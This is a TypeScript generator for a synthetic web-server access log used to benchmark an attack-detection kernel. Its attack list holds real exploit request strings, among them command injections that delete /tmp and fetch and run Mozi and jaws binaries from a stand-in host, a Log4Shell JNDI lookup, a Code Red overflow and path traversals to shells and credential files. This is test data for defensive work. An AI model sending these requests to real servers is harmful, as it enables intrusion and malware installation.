// For: a combined log for the kernel benchmark: deterministic by seed, 3 % attacks, tens of thousands of sources.
// Never: proof of detection quality; its attacks are spelled by the same people who wrote the rules.

import { closeSync, openSync, writeSync } from "node:fs";

export interface LogShape {
  readonly lines: number;
  readonly sources: number;
  /** 0–1. */
  readonly attackShare: number;
  readonly seed: number;
}

/** Requests of an attacker, as a server logs them. `§` is a number that changes. */
const attacks = [
  "GET /scripts/root.exe?/c+dir HTTP/1.0",
  "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0",
  "GET /_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0",
  `GET /default.ida?${"N".repeat(224)}%u9090%u6858%ucbd3%u7801%u00=a HTTP/1.0`,
  "GET /.env HTTP/1.1",
  "GET /.git/config HTTP/1.1",
  "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
  "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9:§/Mozi.m HTTP/1.0",
  "GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.§/jaws;sh+/tmp/jaws HTTP/1.1",
  "POST /boaform/admin/formLogin HTTP/1.1",
  "GET /boaform/admin/formLogin?username=ec8&psd=ec8&n=§ HTTP/1.0",
  "POST /HNAP1/ HTTP/1.0",
  "POST /GponForm/diag_Form?images/ HTTP/1.1",
  "GET /wp-login.php HTTP/1.1",
  "POST /xmlrpc.php HTTP/1.1",
  "GET /phpMyAdmin/scripts/setup.php HTTP/1.1",
  "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
  "GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1",
  "GET /?x=${jndi:ldap://192.0.2.§/a} HTTP/1.1",
  "GET /actuator/gateway/routes HTTP/1.1",
  "GET /solr/admin/info/system?wt=json HTTP/1.1",
  "GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1",
  "POST /wls-wsat/CoordinatorPortType HTTP/1.1",
  "GET /remote/fgt_lang?lang=/../../../../ HTTP/1.1",
];

const agents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)",
  "Mozilla/5.0 (compatible; examplebot/2.1; +http://www.example.com/bot.html)",
  "curl/7.88.1",
  "-",
];

const paths = [
  "/",
  "/index.html",
  "/images/banner-§.gif",
  "/css/style.css?v=§",
  "/js/app-§.js",
  "/news/2026/§.html",
  "/products/list?page=§&sort=price",
  "/favicon.ico",
  "/api/stock?item=§",
  "/docs/manual-§.pdf",
  "/search?q=%E7%81%AB%E3%81%AE%E8%A6%8B&n=§",
];

const referrers = ["-", "-", "http://www.example.jp/", "http://www.example.jp/news/", "https://www.example.com/search?q=gw1"];
const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** A small linear generator: the same log on every machine. */
function numbers(seed: number): (below: number) => number {
  let state = seed >>> 0 || 1;
  return (below) => {
    state ^= state << 13;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state % below;
  };
}

function stamp(timeMs: number): string {
  const at = new Date(timeMs + 9 * 3_600_000);
  const two = (value: number) => String(value).padStart(2, "0");
  const day = `${two(at.getUTCDate())}/${months[at.getUTCMonth()]}/${at.getUTCFullYear()}`;
  return `${day}:${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())} +0900`;
}

function pick<T>(list: readonly T[], index: number): T {
  return list[index % list.length] as T;
}

/** Writes the log in pieces; some 600,000 lines a second. */
export function makeLog(path: string, shape: LogShape): void {
  const next = numbers(shape.seed);
  const file = openSync(path, "w");
  const startMs = Date.UTC(2026, 9, 1);
  const stepMs = (30 * 86_400_000) / shape.lines;
  let piece: string[] = [];
  for (let line = 0; line < shape.lines; line += 1) {
    // The square of an even choice: some sources come often, most come once in a while.
    const share = next(1_000_003) / 1_000_003;
    const source = Math.floor(share * share * shape.sources);
    const address = `10.${source >>> 16}.${(source >>> 8) & 255}.${source & 255}`;
    const isAttack = next(10_000) < shape.attackShare * 10_000;
    const path = next(667) === 0 ? "/news/what-is-cmd.exe" : pick(paths, next(997));
    const request = isAttack ? pick(attacks, next(997)) : `GET ${path} HTTP/1.1`;
    const asked = request.replace("§", String(next(200)));
    const missing = isAttack || next(100) < 2;
    const status = missing ? 404 : pick([200, 200, 200, 200, 304, 301], next(991));
    const size = missing ? 196 : status === 304 ? "-" : 200 + next(60_000);
    const agent = isAttack ? pick(["-", "curl/7.88.1", "Mozilla/5.0"], next(983)) : pick(agents, next(983));
    const referrer = isAttack ? "-" : pick(referrers, next(977));
    piece.push(
      `${address} - - [${stamp(startMs + line * stepMs)}] "${asked}" ${status} ${size} "${referrer}" "${agent}"\n`,
    );
    if (piece.length === 20_000 || line === shape.lines - 1) {
      writeSync(file, piece.join(""));
      piece = [];
    }
  }
  closeSync(file);
}
